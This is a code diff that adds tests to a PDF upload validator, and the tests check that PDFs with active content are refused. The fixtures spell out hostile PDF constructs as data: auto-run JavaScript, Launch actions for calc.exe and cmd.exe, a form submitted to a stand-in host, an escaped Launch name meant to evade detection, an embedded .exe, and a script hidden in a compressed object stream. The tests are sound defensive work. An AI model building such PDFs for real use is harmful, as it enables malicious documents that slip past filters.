@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { pageTooLargeMessage, UPLOAD_MESSAGES } from '../../domain/uploads/messages.ts';
-import { pdfWithPages } from '../test/upload-fixtures.ts';
+import { deflatedStream, handmadePdf, pdfWithPages } from '../test/upload-fixtures.ts';
 import { CONTENT_LIMITS } from './limits.ts';
 import { checkPdf } from './pdf.ts';
 
@@ -26,6 +26,64 @@ describe('checkPdf', () => {
     await expect(checkPdf(await document.save(), CONTENT_LIMITS)).rejects.toMatchObject({
       statusCode: 400,
       message: pageTooLargeMessage(),
+    });
+  });
+
+  describe('active content (issue 29)', () => {
+    const refusal = { statusCode: 400, message: UPLOAD_MESSAGES.pdfActiveContent };
+
+    it('says why, and what to do, in words a customer follows', () => {
+      expect(UPLOAD_MESSAGES.pdfActiveContent).toBe(
+        'This PDF contains scripts, attached files or other interactive content, which we cannot accept for safety. Please save it again with “Print to PDF”, or scan the pages as a new PDF.',
+      );
+    });
+
+    it('accepts a plain page with a web link and an opening view, which run nothing', async () => {
+      const pdf = handmadePdf({
+        catalog: '/OpenAction [3 0 R /Fit] /Annots [4 0 R]',
+        objects: ['<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.com/) >> >>'],
+      });
+      expect(await checkPdf(pdf, CONTENT_LIMITS)).toBe(1);
+    });
+
+    it.each([
+      ['a script run on opening', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }],
+      [
+        'a script in the document-level names',
+        {
+          catalog: '/Names << /JavaScript 4 0 R >>',
+          objects: ['<< /Names [(x) 5 0 R] >>', '<< /S /JavaScript /JS (this.print\\(\\)) >>'],
+        },
+      ],
+      ['a program launched on opening', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }],
+      ['a launch on closing (/AA)', { catalog: '/AA << /WC << /S /Launch /F (cmd.exe) >> >>' }],
+      ['a form sent away on opening', { catalog: '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>' }],
+      ['a launch spelt with a lower-case escape', { catalog: '/OpenAction << /S /Lau#6ech /F (calc.exe) >>' }],
+      [
+        'an attached file',
+        {
+          catalog: '/Names << /EmbeddedFiles 4 0 R >>',
+          objects: [
+            '<< /Names [(invoice.exe) 5 0 R] >>',
+            '<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>',
+            deflatedStream('MZ', '/Type /EmbeddedFile'),
+          ],
+        },
+      ],
+      ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 4 0 R >>', objects: [deflatedStream('<xdp:xdp/>')] }],
+      [
+        'rich media',
+        { catalog: '/Annots [4 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'] },
+      ],
+      [
+        'a script hidden in a compressed object stream',
+        {
+          catalog: '/OpenAction 5 0 R',
+          objects: [deflatedStream('5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>', '/Type /ObjStm /N 1 /First 4')],
+        },
+      ],
+    ])('refuses %s', async (_label, parts) => {
+      await expect(checkPdf(handmadePdf(parts), CONTENT_LIMITS)).rejects.toMatchObject(refusal);
     });
   });
 });
